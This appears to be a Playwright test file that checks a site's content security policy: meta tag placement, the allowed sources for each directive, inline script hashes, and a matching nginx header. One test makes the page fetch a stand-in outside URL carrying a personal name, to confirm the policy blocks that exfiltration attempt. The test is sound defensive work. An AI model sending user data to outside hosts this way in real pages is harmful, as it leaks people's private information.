// The content security policy (src/security/): on every built page, first in <head>, strict, and enforced by the
// browser. That no page and no wizard journey breaks it is checked by every browser test (fixtures.ts).
import { createHash } from 'node:crypto';
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { test, expect, visit } from './fixtures';
import { builtFileFor, distDir, listBuiltPages } from './built-pages';
import { formatPolicy, mergePolicies, nginxHeaderFileName, parsePolicy, readMetaPolicy } from '../../src/security/built-policy';

const pages = listBuiltPages();
const policyOf = (path: string) => parsePolicy(readMetaPolicy(readFileSync(builtFileFor(path), 'utf8')) ?? '');

test.describe('content security policy', () => {
  test('comes first in the head of every page, right after the character set', () => {
    expect(pages.length).toBeGreaterThan(3);
    for (const path of pages) {
      const head = readFileSync(builtFileFor(path), 'utf8').split('</head>')[0]!;
      expect.soft(head, path).toMatch(/<head><meta charset="utf-8"\/?><meta http-equiv="content-security-policy" content="[^"]+"\/?>/);
    }
  });

  test('refuses other origins, plugins, foreign base URLs and code from strings on every page', () => {
    for (const path of pages) {
      const policy = policyOf(path);
      for (const [directive, sources] of [
        ['default-src', ["'self'"]],
        ['connect-src', ["'self'"]],
        ['worker-src', ["'self'"]],
        ['object-src', ["'none'"]],
        ['base-uri', ["'self'"]],
        ['form-action', ["'self'"]],
      ] as const) {
        expect.soft(policy.get(directive), `${path}: ${directive}`).toEqual(sources);
      }
      const scriptSources = policy.get('script-src') ?? [];
      expect.soft(scriptSources, `${path}: script-src`).toContain("'self'");
      expect.soft(scriptSources.filter((source) => !/^'(self|wasm-unsafe-eval|sha256-[\w+/=]+)'$/.test(source)), `${path}: script-src`).toEqual([]);
      expect.soft([...policy.values()].flat(), `${path}: no eval`).not.toContain("'unsafe-eval'");
    }
  });

  test('allows each inline script of a page by its hash, and nothing else inline', () => {
    for (const path of pages) {
      const html = readFileSync(builtFileFor(path), 'utf8');
      const allowed = policyOf(path).get('script-src') ?? [];
      for (const [, attributes, text] of html.matchAll(/<script\b([^>]*)>([\s\S]*?)<\/script>/g)) {
        if (/\bsrc=|type="application\/(ld\+)?json"/.test(attributes!)) continue;
        const hash = `'sha256-${createHash('sha256').update(text!, 'utf8').digest('base64')}'`;
        expect.soft(allowed, `${path}: inline script ${text!.trim().slice(0, 60)}…`).toContain(hash);
      }
    }
  });

  test('blocks a fetch from a page to another origin before it reaches the network', async ({ page, cspViolations }) => {
    await visit(page, '/wizards/candidates/');
    const outcome = await page.evaluate(() =>
      fetch('https://example.org/collect?name=张三').then(
        () => 'sent',
        (error: Error) => error.name,
      ),
    );
    expect(outcome).toBe('TypeError');
    await expect.poll(() => cspViolations.map(({ directive, blocked }) => ({ directive, blocked }))).toEqual([
      { directive: 'connect-src', blocked: 'https://example.org/collect?name=%E5%BC%A0%E4%B8%89' },
    ]);
    // Refused as this test intended: no longer a problem for the page guard.
    cspViolations.length = 0;
  });

  test('lets the search run when the policy also comes as the nginx header, which governs its worker too', async ({ page, baseURL }) => {
    // Served as nginx would serve it with the README's snippet: the built header on every response of the site.
    const header = /^add_header Content-Security-Policy "([^"]+)" always;$/m.exec(readFileSync(join(distDir, nginxHeaderFileName), 'utf8'))![1]!;
    const origin = new URL(baseURL!).origin;
    await page.context().route(
      (url) => url.origin === origin,
      async (route) => {
        const response = await route.fetch();
        await route.fulfill({ response, headers: { ...response.headers(), 'content-security-policy': header } });
      },
    );
    await visit(page, '/');
    await page.getByRole('button', { name: '搜索' }).first().click();
    const dialog = page.getByRole('dialog');
    await dialog.getByRole('textbox', { name: '搜索' }).fill('证书级别');
    // Pagefind compiles its WebAssembly in a worker, under the header's policy: allow for a busy machine.
    await expect(dialog.getByRole('link', { name: /证书与考试概览/ }).first()).toBeVisible({ timeout: 20_000 });
  });

  test('ships with the build as an nginx header, the same policy as the pages', () => {
    const readme = readFileSync(join(import.meta.dirname, '..', '..', 'README.md'), 'utf8');
    const nginxSnippets = [...readme.matchAll(/```nginx\n([\s\S]*?)```/g)].map(([, snippet]) => snippet!);
    expect(nginxSnippets.join('\n'), 'README: the nginx snippet includes the file the build writes').toContain(`include /srv/kaowu-xiangdao/${nginxHeaderFileName};`);
    const headerFile = readFileSync(join(distDir, nginxHeaderFileName), 'utf8');
    const header = /^add_header Content-Security-Policy "([^"]+)" always;$/m.exec(headerFile)?.[1];
    expect(header).toBe(formatPolicy(mergePolicies(pages.map(policyOf))));
  });
});
